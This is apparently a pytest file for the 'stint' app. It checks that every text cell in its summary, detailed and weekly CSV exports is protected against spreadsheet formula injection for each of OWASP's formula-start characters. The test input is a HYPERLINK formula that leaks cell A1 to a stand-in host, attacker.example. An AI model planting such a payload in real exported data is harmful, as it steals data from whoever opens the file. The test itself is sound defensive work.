"""CSV injection (docs/DESIGN.md, "Reports and search"): no text cell of any CSV export starts
with a character a spreadsheet reads as the start of a formula; such a cell is written with a
leading `'`.

The characters are OWASP's list (CSV Injection): `=`, `+`, `-`, `@`, tab and carriage return,
with any the code adds; every text cell of each export carries one of them in turn.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest

from stint.services import reports

OWASP = ("=", "+", "-", "@", "\t", "\r")
FORMULA_START = sorted(set(OWASP) | set(reports._FORMULA_START))


MONEY = {"amount": Decimal("23.88"), "cost": Decimal("12.5"), "profit": Decimal("11.38")}


def summary(text: str) -> tuple[dict[str, Any], int]:
    group = {
        "id": text,
        "title": text,
        "sessions": 1,
        "duration": 60,
        "roundedDuration": 900,
        "billableDuration": 900,
        **MONEY,
        "plannedDurationHours": 2,
        "plannedBudget": Decimal(100),
    }
    return {"groupBy": "project", "groups": [group], "totals": MONEY}, 2


def detailed(text: str) -> tuple[dict[str, Any], int]:
    entry = {
        "sessionId": text,
        "startTimestamp": "2026-10-24T09:00:00.000Z",
        "endTimestamp": "2026-10-24T09:01:00.000Z",
        "date": "2026-10-24",
        "project": {"id": text, "title": text},
        "task": {"id": text, "title": text},
        "subtask": {"id": text, "title": text},
        "tags": [{"name": text}],
        "note": text,
        "duration": 60,
        "roundedDuration": 900,
        "billable": True,
        "hourlyRate": Decimal("95.5"),
        **MONEY,
    }
    return {"entries": [entry], "totals": MONEY}, 9


def weekly(text: str) -> tuple[dict[str, Any], int]:
    days = [f"2026-10-{d}" for d in range(24, 31)]
    figures = {"days": [900, 0, 0, 0, 0, 0, 0], "roundedDuration": 900, **MONEY}
    report = {"days": days, "groups": [{"id": text, "title": text, **figures}], "totals": figures}
    return report, 2


EXPORTS: dict[str, tuple[Callable[[str], tuple[dict[str, Any], int]], Callable[..., str]]] = {
    "summary": (summary, reports.to_csv),
    "detailed": (detailed, reports.detailed_csv),
    "weekly": (weekly, reports.weekly_csv),
}


@pytest.mark.parametrize("export", sorted(EXPORTS))
@pytest.mark.parametrize("start", FORMULA_START, ids=repr)
def test_every_formula_start_is_neutralised_in_every_csv_export(start: str, export: str) -> None:
    build, to_csv = EXPORTS[export]
    text = start + 'HYPERLINK("https://attacker.example/?leak="&A1, "open")'
    report, text_cells = build(text)
    rows = list(csv.reader(io.StringIO(to_csv(report).removeprefix("\ufeff"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells.count("'" + text) == text_cells, f"{export}: {rows[1:]}"
    runs = [cell for cell in cells if cell.startswith(tuple(FORMULA_START))]
    assert not runs, f"{export}: cells a spreadsheet runs as formulas: {runs}"
